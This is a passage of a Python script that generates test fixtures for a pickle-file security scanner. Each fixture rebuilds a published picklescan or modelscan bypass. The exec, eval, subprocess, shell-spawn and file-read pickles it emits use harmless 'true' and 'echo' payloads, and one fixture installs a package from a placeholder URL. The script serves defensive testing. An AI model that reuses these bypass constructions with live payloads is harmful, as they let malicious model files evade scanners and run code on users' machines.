#!/usr/bin/env python3
"""Generate corpus/bypass/: one fixture per published scanner bypass, plus its manifest.

Every fixture is assembled opcode by opcode (encodings as in CPython's Lib/pickletools.py), and
every container (zip, 7z) is assembled byte by byte, so the exact trick of each advisory is kept
(flag bits, CRC mismatch, name mismatch, ...). Nothing here ever unpickles anything: the script
only writes bytes. Payloads only run `true` or `echo ...`.

Usage:
    python corpus/gen/bypass.py                 # (re)write corpus/bypass/ and the docs
    python corpus/gen/bypass.py --check         # verify the committed fixtures are reproducible
    python corpus/gen/bypass.py --results FILE  # fill the "our verdict" column from a test run
                                                # (BYPASS_RESULTS=FILE cargo test --test it bypass::)
"""

from __future__ import annotations

import argparse
import json
import struct
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
OUT = ROOT / "corpus" / "bypass"
DOC = ROOT / "docs" / "bypass-catalogue.md"

# ---------------------------------------------------------------------------------------------
# Opcode assembler
# ---------------------------------------------------------------------------------------------


def _line(s: str | bytes) -> bytes:
    if isinstance(s, str):
        s = s.encode("ascii")
    assert b"\n" not in s
    return s + b"\n"


def _raw_unicode_escape(s: str) -> bytes:
    # pickle.py's protocol-0 UNICODE encoding
    return (
        s.replace("\\", "\\u005c")
        .replace("\0", "\\u0000")
        .replace("\n", "\\u000a")
        .replace("\r", "\\u000d")
        .replace("\x1a", "\\u001a")
        .encode("raw-unicode-escape")
    )


class P:
    """A pickle under construction: each method appends one opcode with its argument."""

    def __init__(self) -> None:
        self.b = bytearray()

    def raw(self, data: bytes) -> "P":
        self.b += data
        return self

    def bytes(self) -> bytes:
        return bytes(self.b)

    # --- framing / protocol -------------------------------------------------------------
    def proto(self, n: int) -> "P":
        return self.raw(b"\x80" + bytes([n]))

    def frame(self, n: int) -> "P":
        return self.raw(b"\x95" + struct.pack("<Q", n))

    def stop(self) -> "P":
        return self.raw(b".")

    # --- stack / memo -------------------------------------------------------------------
    def mark(self) -> "P":
        return self.raw(b"(")

    def pop(self) -> "P":
        return self.raw(b"0")

    def pop_mark(self) -> "P":
        return self.raw(b"1")

    def dup(self) -> "P":
        return self.raw(b"2")

    def memoize(self) -> "P":
        return self.raw(b"\x94")

    def put(self, i: int) -> "P":
        return self.raw(b"p" + _line(str(i)))

    def binput(self, i: int) -> "P":
        return self.raw(b"q" + bytes([i]))

    def long_binput(self, i: int) -> "P":
        return self.raw(b"r" + struct.pack("<I", i))

    def get(self, i: int) -> "P":
        return self.raw(b"g" + _line(str(i)))

    def binget(self, i: int) -> "P":
        return self.raw(b"h" + bytes([i]))

    def long_binget(self, i: int) -> "P":
        return self.raw(b"j" + struct.pack("<I", i))

    # --- constants ----------------------------------------------------------------------
    def none(self) -> "P":
        return self.raw(b"N")

    def true(self) -> "P":
        return self.raw(b"\x88")

    def false(self) -> "P":
        return self.raw(b"\x89")

    def int_(self, v: int) -> "P":  # protocol 0 INT
        return self.raw(b"I" + _line(str(v)))

    def binint(self, v: int) -> "P":
        if 0 <= v < 256:
            return self.raw(b"K" + bytes([v]))
        if 0 <= v < 65536:
            return self.raw(b"M" + struct.pack("<H", v))
        return self.raw(b"J" + struct.pack("<i", v))

    def string(self, s: str) -> "P":  # protocol 0 STRING, a Python-2 repr
        return self.raw(b"S" + _line(repr(s)))

    def binstring(self, s: str) -> "P":
        d = s.encode("latin-1")
        if len(d) < 256:
            return self.raw(b"U" + bytes([len(d)]) + d)  # SHORT_BINSTRING
        return self.raw(b"T" + struct.pack("<i", len(d)) + d)

    def unicode(self, s: str) -> "P":  # protocol 0 UNICODE
        return self.raw(b"V" + _raw_unicode_escape(s) + b"\n")

    def binunicode(self, s: str) -> "P":
        d = s.encode("utf-8")
        return self.raw(b"X" + struct.pack("<I", len(d)) + d)

    def sbu(self, s: str) -> "P":  # SHORT_BINUNICODE
        d = s.encode("utf-8")
        assert len(d) < 256
        return self.raw(b"\x8c" + bytes([len(d)]) + d)

    def str_(self, s: str) -> "P":
        d = s.encode("utf-8")
        return self.sbu(s) if len(d) < 256 else self.binunicode(s)

    def binbytes(self, d: bytes) -> "P":
        if len(d) < 256:
            return self.raw(b"C" + bytes([len(d)]) + d)  # SHORT_BINBYTES
        return self.raw(b"B" + struct.pack("<I", len(d)) + d)

    # --- containers ---------------------------------------------------------------------
    def empty_tuple(self) -> "P":
        return self.raw(b")")

    def tuple_(self) -> "P":
        return self.raw(b"t")

    def tuple1(self) -> "P":
        return self.raw(b"\x85")

    def tuple2(self) -> "P":
        return self.raw(b"\x86")

    def tuple3(self) -> "P":
        return self.raw(b"\x87")

    def empty_list(self) -> "P":
        return self.raw(b"]")

    def list_(self) -> "P":
        return self.raw(b"l")

    def append(self) -> "P":
        return self.raw(b"a")

    def appends(self) -> "P":
        return self.raw(b"e")

    def empty_dict(self) -> "P":
        return self.raw(b"}")

    def dict_(self) -> "P":
        return self.raw(b"d")

    def setitem(self) -> "P":
        return self.raw(b"s")

    def setitems(self) -> "P":
        return self.raw(b"u")

    # --- imports and calls --------------------------------------------------------------
    def global_(self, module: str, name: str) -> "P":
        return self.raw(b"c" + _line(module) + _line(name))

    def stack_global(self) -> "P":
        return self.raw(b"\x93")

    def sg(self, module: str, name: str, memo: bool = False) -> "P":
        """SHORT_BINUNICODE module, SHORT_BINUNICODE name, STACK_GLOBAL (as pickle 4 writes it)."""
        self.str_(module)
        if memo:
            self.memoize()
        self.str_(name)
        if memo:
            self.memoize()
        self.stack_global()
        if memo:
            self.memoize()
        return self

    def reduce(self) -> "P":
        return self.raw(b"R")

    def build(self) -> "P":
        return self.raw(b"b")

    def inst(self, module: str, name: str) -> "P":
        return self.raw(b"i" + _line(module) + _line(name))

    def obj(self) -> "P":
        return self.raw(b"o")

    def newobj(self) -> "P":
        return self.raw(b"\x81")

    def newobj_ex(self) -> "P":
        return self.raw(b"\x92")

    def ext1(self, code: int) -> "P":
        return self.raw(b"\x82" + bytes([code]))


def args(p: P, values: tuple) -> P:
    """Push a tuple of constants (str, bytes, int, bool, None, dict {}, list of str, tuple)."""

    def push(v):
        if v is None:
            p.none()
        elif v is True:
            p.true()
        elif v is False:
            p.false()
        elif isinstance(v, int):
            p.binint(v)
        elif isinstance(v, str):
            p.str_(v)
        elif isinstance(v, bytes):
            p.binbytes(v)
        elif isinstance(v, dict):
            assert not v
            p.empty_dict()
        elif isinstance(v, list):
            p.empty_list()
            if v:
                p.mark()
                for x in v:
                    push(x)
                p.appends()
        elif isinstance(v, tuple):
            push_tuple(v)
        else:
            raise TypeError(v)

    def push_tuple(t):
        if len(t) == 0:
            p.empty_tuple()
        elif len(t) <= 3:
            for x in t:
                push(x)
            p.raw({1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(t)])
        else:
            p.mark()
            for x in t:
                push(x)
            p.tuple_()

    push_tuple(values)
    return p


def call4(module: str, name: str, *a, proto: int = 4, memo: bool = True) -> bytes:
    """What pickle.dumps(obj, protocol=4) writes for obj.__reduce__() == (module.name, a)."""
    p = P().proto(proto)
    p.sg(module, name, memo=memo)
    args(p, a)
    p.reduce()
    if memo:
        p.memoize()
    return p.stop().bytes()


def call0(module: str, name: str, *a) -> bytes:
    """Protocol 0: GLOBAL, MARK, args, TUPLE, REDUCE."""
    p = P().global_(module, name).mark()
    for v in a:
        if isinstance(v, str):
            p.unicode(v)
        elif isinstance(v, int):
            p.int_(v)
        else:
            raise TypeError(v)
    return p.tuple_().reduce().stop().bytes()


def call2(module: str, name: str, *a) -> bytes:
    """Protocol 2: PROTO 2, GLOBAL, args, TUPLEn, REDUCE."""
    p = P().proto(2).global_(module, name)
    args(p, a)
    return p.reduce().stop().bytes()


ECHO = "echo pwned"
PY = "__import__('os').system('true')"

# ---------------------------------------------------------------------------------------------
# Zip assembler (enough of APPNOTE.TXT to reproduce the container tricks)
# ---------------------------------------------------------------------------------------------


@dataclass
class Member:
    name: str
    data: bytes
    flags: int = 0
    crc: int | None = None  # None: the right CRC
    local_name: str | None = None  # None: same as the central directory name
    local_sig: bytes = b"PK\x03\x04"
    method: int = 0  # stored


def build_zip(members: list[Member], align: int = 0) -> bytes:
    """A zip of stored members. `align`: pad each member's data to this alignment the way
    torch's writer does (an extra field), 0 for none."""
    out = bytearray()
    central = bytearray()
    for m in members:
        crc = zlib.crc32(m.data) & 0xFFFFFFFF if m.crc is None else m.crc
        lname = (m.local_name if m.local_name is not None else m.name).encode()
        cname = m.name.encode()
        offset = len(out)
        extra = b""
        if align:
            start = offset + 30 + len(lname) + 4
            pad = (-start) % align
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        out += m.local_sig + struct.pack(
            "<HHHHHIIIHH", 20, m.flags, m.method, 0, 0x21, crc, len(m.data), len(m.data), len(lname), len(extra)
        )
        out += lname + extra + m.data
        central += b"PK\x01\x02" + struct.pack(
            "<HHHHHHIIIHHHHHII",
            0x031E,
            20,
            m.flags,
            m.method,
            0,
            0x21,
            crc,
            len(m.data),
            len(m.data),
            len(cname),
            0,
            0,
            0,
            0,
            0o100644 << 16,
            offset,
        )
        central += cname
    cd_off = len(out)
    out += central
    out += b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(central), cd_off, 0)
    return bytes(out)


def torch_zip(data_pkl: bytes, prefix: str = "archive", extra: list[Member] | None = None) -> bytes:
    """A minimal torch.save zip around `data_pkl` (data.pkl, byteorder, version)."""
    members = list(extra or [])
    members += [
        Member(f"{prefix}/data.pkl", data_pkl),
        Member(f"{prefix}/byteorder", b"little"),
        Member(f"{prefix}/version", b"3\n"),
    ]
    return build_zip(members, align=64)


# ---------------------------------------------------------------------------------------------
# 7z assembler: one folder, Copy coder (method id 00), one file
# ---------------------------------------------------------------------------------------------


def _7z_number(n: int) -> bytes:
    # 7zFormat.txt REAL_UINT64: leading 1 bits of the first byte = number of extra bytes
    for extra in range(0, 9):
        if extra == 8:
            return b"\xff" + struct.pack("<Q", n)
        if n < (1 << (7 * (extra + 1))):
            high = n >> (8 * extra)
            first = (0xFF << (8 - extra)) & 0xFF | high
            return bytes([first]) + n.to_bytes(8, "little")[:extra]
    raise ValueError(n)


def build_7z(name: str, data: bytes) -> bytes:
    """A 7z archive holding one file stored with the Copy method (as `7z a -mx0` writes it)."""
    n = _7z_number
    header = bytearray()
    header += b"\x01"  # kHeader
    header += b"\x04"  # kMainStreamsInfo
    header += b"\x06" + n(0) + n(1) + b"\x09" + n(len(data)) + b"\x00"  # kPackInfo
    header += b"\x07" + b"\x0b" + n(1) + b"\x00"  # kUnPackInfo, kFolder, 1 folder, not external
    header += n(1) + b"\x01" + b"\x00"  # 1 coder: id size 1, simple; id 00 = Copy
    header += b"\x0c" + n(len(data))  # kCodersUnPackSize
    header += b"\x00"  # end of kUnPackInfo
    header += b"\x08" + b"\x0a" + b"\x01" + struct.pack("<I", zlib.crc32(data) & 0xFFFFFFFF) + b"\x00"  # kSubStreamsInfo: kCRC
    header += b"\x00"  # end of kMainStreamsInfo
    header += b"\x05" + n(1)  # kFilesInfo, 1 file
    fname = name.encode("utf-16-le") + b"\x00\x00"
    header += b"\x11" + n(len(fname) + 1) + b"\x00" + fname  # kName, not external
    header += b"\x00"  # end of kFilesInfo
    header += b"\x00"  # end of kHeader
    header = bytes(header)
    next_off = len(data)
    start = struct.pack("<QQI", next_off, len(header), zlib.crc32(header) & 0xFFFFFFFF)
    sig = b"7z\xbc\xaf\x27\x1c" + b"\x00\x04" + struct.pack("<I", zlib.crc32(start) & 0xFFFFFFFF) + start
    return sig + data + header


# ---------------------------------------------------------------------------------------------
# The catalogue
# ---------------------------------------------------------------------------------------------

PS = "picklescan"
MS = "modelscan"
FK = "fickling"
MA = "modelaudit"
PT = "torch weights_only"


@dataclass
class Fixture:
    file: str
    verdict: str
    globals: list[str]
    calls: list[str]
    container: str
    technique: str
    advisories: list[str]
    source: str
    bypassed: list[str]
    what: str
    build: object = None
    generator: str = ""
    origin: str = ""  # group for README/docs
    extra: dict = field(default_factory=dict)


CATALOGUE: list[Fixture] = []


def fixture(file, verdict, globals_, calls, *, container="pickle", technique, advisories, source, bypassed, what, origin):
    def deco(fn):
        CATALOGUE.append(
            Fixture(
                file=file,
                verdict=verdict,
                globals=list(globals_),
                calls=list(calls),
                container=container,
                technique=technique,
                advisories=list(advisories),
                source=source,
                bypassed=list(bypassed),
                what=what,
                build=fn,
                generator=fn.__name__,
                origin=origin,
            )
        )
        return fn

    return deco


def ps_adv(ghsa: str) -> str:
    return f"https://github.com/mmaitre314/picklescan/security/advisories/{ghsa}"


def fk_adv(ghsa: str) -> str:
    return f"https://github.com/trailofbits/fickling/security/advisories/{ghsa}"


# A family of "denylist gap" advisories against picklescan: one callable that reaches exec/eval,
# a subprocess, a file write or a nested loader, missing from the denylist at the time. Each is
# a protocol-4 `__reduce__` pickle as picklescan's own tests/init_data_files.py builds it.
PS_GAPS = [
    # ghsa, module, name, args, what, technique
    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", (PY, {}), "exec of a code string via cProfile", "denylist-gap"),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", ({}, PY), "eval of a guard expression (dotted class attribute)", "denylist-gap, dotted-name"),
    ("GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, PY, []), "eval of a guard expression (dotted class attribute)", "denylist-gap, dotted-name"),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", (ECHO,), "subprocess with shell=True", "denylist-gap"),
    ("GHSA-jhph-76pp-mggw", "torch.utils.collect_env", "run_and_read_all", (None, ECHO), "run_and_read_all(run, cmd): subprocess via a callable argument", "denylist-gap"),
    ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"\x80\x04N."), "pickle.loads of attacker bytes (nested pickle)", "denylist-gap, nested-pickle"),
    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", (PY, {}, {}), "exec wrapper", "denylist-gap"),
    ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config", ({}, b"\x80\x04N."), "pickle.loads of a config blob (nested pickle)", "denylist-gap, dotted-name, nested-pickle"),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", ({}, PY), "exec via trace.Trace.run", "denylist-gap, dotted-name"),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", ({}, PY, {}, {}), "exec via trace.Trace.runctx", "denylist-gap, dotted-name"),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.run", ({}, PY), "exec via profile.Profile.run", "denylist-gap, dotted-name"),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", ({}, PY, {}, {}), "exec via profile.Profile.runctx", "denylist-gap, dotted-name"),
    ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"\x80\x04N."), "pickle.loads inside lib2to3 (nested pickle)", "denylist-gap, dotted-name, nested-pickle"),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, PY), "eval in idlelib", "denylist-gap, dotted-name"),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, PY), "eval in idlelib", "denylist-gap, dotted-name"),
    ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions", ({}, PY, 1), "eval in idlelib", "denylist-gap, dotted-name"),
    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", ({}, PY), "exec via code.InteractiveInterpreter", "denylist-gap, dotted-name"),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", ({}, PY), "eval in idlelib", "denylist-gap, dotted-name"),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", (PY,), "eval in idlelib", "denylist-gap"),
    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof", (PY, {}), "exec via the autograd profiler", "denylist-gap"),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", (PY,), "exec of a code string in a pip subprocess", "denylist-gap"),
    ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + PY), "eval in lib2to3", "denylist-gap, dotted-name"),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", ({}, PY), "exec in idlelib", "denylist-gap, dotted-name"),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, PY), "exec in idlelib", "denylist-gap, dotted-name"),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, PY), "exec in idlelib", "denylist-gap, dotted-name"),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", (PY, True), "exec via doctest's debugger", "denylist-gap"),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", (PY, None, None), "exec via cProfile.runctx", "denylist-gap"),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run", (PY,), "exec via cProfile.run", "denylist-gap"),
    ("GHSA-7wx9-6375-f5wh", "profile", "run", (PY,), "exec via profile.run", "denylist-gap"),
    ("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, ECHO, True, None, None, None, 0), "subprocess via an asyncio private transport (submodule of a denylisted module)", "denylist-gap, submodule, dotted-name"),
    ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", ("pwned.env", ["malicious content"]), "arbitrary file write", "denylist-gap"),
    ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", (None,), "load a shared library / call C", "denylist-gap"),
    ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", (["/bin/sh", "-c", "true"],), "spawn a shell", "denylist-gap"),
    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", (PY, []), "eval inside numpy.f2py", "denylist-gap, submodule"),
    ("GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name", ("os:system",), "universal resolver: any module:attr, bypassing every import check", "denylist-gap, resolver"),
]

PS_G38G = [
    ("uuid", "_get_command_stdout", ("echo", "pwned"), "subprocess.Popen of a command"),
    ("_osx_support", "_read_output", (ECHO,), "os.system of a command"),
    ("_aix_support", "_read_cmd_output", (ECHO,), "os.system of a command"),
    ("imaplib", "IMAP4_stream", (ECHO,), "subprocess.Popen(shell=True)"),
    ("_pyrepl.pager", "pipe_pager", ("text", ECHO), "subprocess pager command"),
    ("test.support.script_helper", "assert_python_ok", ("-c", "pass"), "spawns a Python subprocess"),
]


def _slug(s: str) -> str:
    return s.replace(".", "_").replace("/", "_")


def _rendered(module: str, name: str, a: tuple) -> list[str]:
    # The call substring we require: `name(` followed by the first string argument's repr.
    last = name.split(".")[-1]
    for v in a:
        if isinstance(v, str):
            return [f"{last}({repr(v)}" if v is a[0] else f"{last}(", repr(v)]
    return [f"{last}("]


def _register_ps_gaps():
    for ghsa, module, name, a, what, technique in PS_GAPS:
        fname = f"ps-{ghsa}.pkl"

        def build(module=module, name=name, a=a):
            if name == "run_and_read_all":
                # run_and_read_all(run, cmd): the first argument is the global collect_env.run
                p = P().proto(4)
                p.sg(module, name, memo=True)
                p.sg(module, "run", memo=True)
                p.str_(ECHO).memoize().tuple2().memoize().reduce().memoize()
                return p.stop().bytes()
            return call4(module, name, *a)

        build.__name__ = f"ps_{_slug(ghsa)}"
        gl = [f"{module}.{name}"]
        if name == "run_and_read_all":
            gl.append(f"{module}.run")
        fixture(
            fname,
            "dangerous",
            gl,
            _rendered(module, name, a),
            technique=technique,
            advisories=[ghsa],
            source=ps_adv(ghsa),
            bypassed=[PS, MS],
            what=f"`{module}.{name}`: {what}",
            origin="picklescan advisories",
        )(build)

    for module, name, a, what in PS_G38G:

        def build(module=module, name=name, a=a):
            return call4(module, name, *a, memo=False)

        build.__name__ = f"ps_GHSA_g38g_8gr9_h9xp_{_slug(module)}"
        fixture(
            f"ps-GHSA-g38g-8gr9-h9xp-{_slug(module)}.pkl",
            "dangerous",
            [f"{module}.{name}"],
            _rendered(module, name, a),
            technique="denylist-gap",
            advisories=["GHSA-g38g-8gr9-h9xp", "CVE-2026-56315"],
            source=ps_adv("GHSA-g38g-8gr9-h9xp"),
            bypassed=[PS, MS],
            what=f"`{module}.{name}`: {what} (stdlib modules missing from the denylist before picklescan 1.0.4)",
            origin="picklescan advisories",
        )(build)


_register_ps_gaps()


# --- picklescan: other global gaps ------------------------------------------------------------


@fixture(
    "ps-GHSA-9726-w42j-3qjr-io_FileIO.pkl", "dangerous", ["_io.FileIO"], ["FileIO('/etc/hosts'"],
    technique="denylist-gap", advisories=["GHSA-9726-w42j-3qjr"], source=ps_adv("GHSA-9726-w42j-3qjr"),
    bypassed=[PS, MS], what="`_io.FileIO` opens any file, bypassing the `builtins.open` entry", origin="picklescan advisories",
)
def ps_io_fileio():
    return call4("_io", "FileIO", "/etc/hosts", "r")


@fixture(
    "ps-GHSA-9726-w42j-3qjr-urlopen.pkl", "dangerous", ["urllib.request.urlopen"], ["urlopen('https://example.invalid'"],
    technique="denylist-gap", advisories=["GHSA-9726-w42j-3qjr"], source=ps_adv("GHSA-9726-w42j-3qjr"),
    bypassed=[PS, MS], what="`urllib.request.urlopen`: SSRF / exfiltration", origin="picklescan advisories",
)
def ps_urlopen():
    return call4("urllib.request", "urlopen", "https://example.invalid")


@fixture(
    "ps-GHSA-m7j5-r2p5-c39r-FileHandler.pkl", "dangerous", ["logging.FileHandler"], ["FileHandler('evil.log'"],
    technique="denylist-gap", advisories=["GHSA-m7j5-r2p5-c39r", "CVE-2026-56304"], source=ps_adv("GHSA-m7j5-r2p5-c39r"),
    bypassed=[PS, MS], what="`logging.FileHandler` creates arbitrary files", origin="picklescan advisories",
)
def ps_filehandler():
    return call4("logging", "FileHandler", "evil.log")


@fixture(
    "ps-GHSA-9m3x-qqw2-h32h-CodeType.pkl", "dangerous", ["types.CodeType"], ["CodeType("],
    technique="denylist-gap, code-object", advisories=["GHSA-9m3x-qqw2-h32h"], source=ps_adv("GHSA-9m3x-qqw2-h32h"),
    bypassed=[PS, MS], what="`types.CodeType(...)` builds an arbitrary code object", origin="picklescan advisories",
)
def ps_codetype():
    p = P().proto(4).sg("types", "CodeType", memo=True)
    # argcount, posonly, kwonly, nlocals, stacksize, flags, codestring, consts, names, varnames,
    # filename, name, qualname, firstlineno, linetable, exceptiontable, freevars, cellvars
    args(p, (0, 0, 0, 0, 2, 0, b"\x97\x00y\x00", (None,), (), (), "<dynamic>", "<module>", "<module>", 1, b"", b"", (), ()))
    return p.reduce().memoize().stop().bytes()


@fixture(
    "ps-GHSA-9m3x-qqw2-h32h-cloudpickle.pkl", "dangerous", ["cloudpickle.cloudpickle.subimport"], ["subimport('os')"],
    technique="denylist-gap", advisories=["GHSA-9m3x-qqw2-h32h"], source=ps_adv("GHSA-9m3x-qqw2-h32h"),
    bypassed=[PS, MS], what="cloudpickle's reconstruction helpers import modules and build functions", origin="picklescan advisories",
)
def ps_cloudpickle():
    p = P().proto(4).sg("builtins", "getattr", memo=True)
    p.sg("cloudpickle.cloudpickle", "subimport", memo=True)
    p.str_("os").tuple1().reduce().memoize()
    p.str_("system").tuple2().reduce().memoize()
    p.str_(ECHO).tuple1().reduce()
    return p.stop().bytes()


@fixture(
    "ps-GHSA-955r-x9j8-7rhh-methodcaller.pkl", "dangerous", ["builtins.__import__", "builtins.__import__.system"], ["methodcaller('system'"],
    technique="denylist-gap, private-alias", advisories=["GHSA-955r-x9j8-7rhh"], source=ps_adv("GHSA-955r-x9j8-7rhh"),
    bypassed=[PS, MS], what="`_operator.methodcaller('system', cmd)(__import__('os'))`: the C module behind `operator`", origin="picklescan advisories",
)
def ps_methodcaller():
    p = P().global_("builtins", "__import__").mark().unicode("os").tuple_().reduce().put(0).pop()
    p.global_("_operator", "methodcaller").mark().unicode("system").unicode(ECHO).tuple_().reduce()
    p.mark().get(0).tuple_().reduce()
    return p.stop().bytes()


@fixture(
    "ps-GHSA-46h3-79wf-xr6c-attrgetter.pkl", "dangerous", ["_operator.attrgetter", "builtins.__import__"], ["attrgetter('system')"],
    technique="denylist-gap, private-alias", advisories=["GHSA-46h3-79wf-xr6c"], source=ps_adv("GHSA-46h3-79wf-xr6c"),
    bypassed=[PS, MS], what="`_operator.attrgetter('system')(__import__('os'))(cmd)`", origin="picklescan advisories",
)
def ps_attrgetter():
    p = P().global_("builtins", "__import__").mark().unicode("os").tuple_().reduce().put(0).pop()
    p.global_("_operator", "attrgetter").mark().unicode("system").tuple_().reduce()
    p.mark().get(0).tuple_().reduce()
    p.mark().unicode(ECHO).tuple_().reduce()
    return p.stop().bytes()


@fixture(
    "ps-GHSA-84r2-jw7c-4r5q-locate.pkl", "dangerous", ["pydoc.locate", "pydoc.locate.system"], ["locate('os')"],
    technique="denylist-gap, resolver", advisories=["GHSA-84r2-jw7c-4r5q"], source=ps_adv("GHSA-84r2-jw7c-4r5q"),
    bypassed=[PS, MS], what="`methodcaller('system', cmd)(pydoc.locate('os'))`: pydoc.locate imports any module", origin="picklescan advisories",
)
def ps_pydoc_locate():
    p = P().proto(4).sg("operator", "methodcaller", memo=True)
    p.str_("system").memoize().str_(ECHO).memoize().tuple2().memoize().reduce().memoize()
    p.sg("pydoc", "locate", memo=True).str_("os").memoize().tuple1().memoize().reduce().memoize()
    p.tuple1().memoize().reduce().memoize()
    return p.stop().bytes()


PS_655Q = [
    ("torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", ECHO]), "runs a compiler command line", "malicious17"),
    ("pydoc", "pipepager", ("", ECHO), "shell pipe to a pager command", "malicious18"),
    ("venv", "create", ("venv", False, False, True, False, ECHO), "runs a prompt/upgrade command", "malicious20"),
]

for _m, _n, _a, _what, _orig in PS_655Q:

    def _b(m=_m, n=_n, a=_a):
        return call4(m, n, *a)

    _b.__name__ = f"ps_GHSA_655q_{_slug(_m)}"
    fixture(
        f"ps-GHSA-655q-fx9r-782v-{_slug(_m)}.pkl", "dangerous", [f"{_m}.{_n}"], [f"{_n}("],
        technique="denylist-gap", advisories=["GHSA-655q-fx9r-782v"], source=ps_adv("GHSA-655q-fx9r-782v"),
        bypassed=[PS, MS], what=f"`{_m}.{_n}`: {_what} (picklescan test {_orig})", origin="picklescan advisories",
    )(_b)


@fixture(
    "ps-GHSA-655q-fx9r-782v-partial_torch_load.pkl", "dangerous", ["torch.serialization.load"], ["partial(torch.serialization.load", "'some_other_model.bin'"],
    technique="denylist-gap, nested-loader", advisories=["GHSA-655q-fx9r-782v"], source=ps_adv("GHSA-655q-fx9r-782v"),
    bypassed=[PS, MS], what="`functools.partial(torch.load, path, weights_only=False)()` loads a second, unscanned file", origin="picklescan advisories",
)
def ps_partial_torch_load():
    # pickle 4 writes a partial as REDUCE(partial, (func,)) then BUILD((func, args, kwds, dict));
    # the outer __reduce__ is (partial_obj, ()), so the partial is called at load time.
    q = P().proto(4).sg("functools", "partial", memo=True)
    q.sg("torch.serialization", "load", memo=True).tuple1().reduce().memoize()
    q.mark()
    q.binget(5)  # torch.serialization.load (memo: 0 'functools', 1 'partial', 2 partial, 3, 4, 5 load)
    q.str_("some_other_model.bin").tuple1()
    q.empty_dict().mark().str_("pickle_file").str_("config.json").str_("weights_only").false().setitems()
    q.none()
    q.tuple_().build()
    q.empty_tuple().reduce()
    return q.stop().bytes()


@fixture(
    "ps-CVE-2025-1716-pip_main.pkl", "dangerous", ["pip.main"], ["main(["],
    technique="denylist-gap", advisories=["CVE-2025-1716"], source="https://osv.dev/vulnerability/CVE-2025-1716",
    bypassed=[PS, MS], what="`pip.main(['install', ...])` installs an attacker package (protocol 0)", origin="Sonatype (picklescan CVEs)",
)
def ps_pip_main():
    p = P().global_("pip", "main").mark().mark()
    for s in ["install", "--no-input", "-q", "-q", "-q", "--exists-action", "i", "--isolated", "git+https://example.invalid/pkg"]:
        p.unicode(s)
    p.list_().tuple_().reduce()
    return p.stop().bytes()


# --- picklescan: parser / VM gaps -------------------------------------------------------------


@fixture(
    "ps-GHSA-9gvj-pp9x-gcfr-string_operands.pkl", "dangerous", ["os.system"], ["system('true')"],
    technique="vm-gap: STACK_GLOBAL operands from STRING", advisories=["GHSA-9gvj-pp9x-gcfr"], source=ps_adv("GHSA-9gvj-pp9x-gcfr"),
    bypassed=[PS], what="STACK_GLOBAL whose module/name come from protocol-0 STRING opcodes, which the scanner did not track", origin="picklescan advisories",
)
def ps_string_operands():
    return P().string("os").string("system").stack_global().string("true").tuple1().reduce().stop().bytes()


@fixture(
    "ps-issue14-memo_confusion.pkl", "dangerous", ["os.system"], ["system('true')"],
    technique="vm-gap: memo indices (BINPUT vs MEMOIZE)", advisories=[], source="https://github.com/mmaitre314/picklescan/issues/14",
    bypassed=[PS], what="memo filled with BINPUT then MEMOIZE; a scanner that numbers MEMOIZE on its own sees `torch._utils._rebuild_tensor_v2`", origin="picklescan issues",
)
def ps_memo_confusion():
    p = P().proto(4)
    p.binstring("os").binput(0).binstring("system").binput(1)
    p.binstring("torch._utils").memoize().binstring("_rebuild_tensor_v2").memoize()
    # real memo: {0:'os', 1:'system', 2:'torch._utils', 3:'_rebuild_tensor_v2'}
    # a naive MEMOIZE counter thinks 0 and 1 are torch._utils/_rebuild_tensor_v2
    p.pop().pop().binget(0).binget(1).stack_global().binstring("true").tuple1().reduce()
    return p.stop().bytes()


@fixture(
    "ps-issue22-ctf_put_indices.pkl", "dangerous", ["os.system"], ["system('true')"],
